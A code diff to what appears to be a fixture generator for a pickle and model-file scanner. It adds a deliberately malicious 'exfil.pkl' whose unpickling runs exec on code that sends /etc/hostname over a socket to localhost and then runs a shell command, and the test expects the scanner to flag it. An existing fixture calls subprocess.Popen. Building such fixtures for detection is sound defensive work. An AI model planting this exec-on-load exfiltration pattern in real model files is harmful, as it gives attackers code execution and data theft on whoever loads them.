@@ -157,6 +157,17 @@ def main(out):
     with open(p("evil.joblib"), "wb") as f:
         f.write(pkl([joblib_value, Call(Global("subprocess", "Popen"), (["id"],))], 4))
     expect("evil.joblib", "malicious", "pickle.dangerous-import", format="joblib")
+    # The demo's malicious model: a pickle that phones home, then starts a shell (make demo probes it).
+    exfil = ("import os, socket\n"
+             "try:\n"
+             "    socket.create_connection(('127.0.0.1', %d), timeout=1).sendall(open('/etc/hostname', 'rb').read())\n"
+             "except OSError:\n"
+             "    pass\n"
+             "os.system(%r)\n" % (pickles.PORT, pickles.CMD))
+    with open(p("exfil.pkl"), "wb") as f:
+        f.write(pkl(Build(Call(Global("collections", "OrderedDict"), ()),
+                          {"weight": Call(Global("builtins", "exec"), (exfil,))}, callee="collections.OrderedDict")))
+    expect("exfil.pkl", "malicious", "pickle.dangerous-import", format="pickle")
     with open(p("sklearn.pkl"), "wb") as f:
         f.write(pkl(Call(Global("sklearn.linear_model._base", "LinearRegression"), ()), 4))
     expect("sklearn.pkl", "suspicious", "pickle.unknown-import", format="pickle")
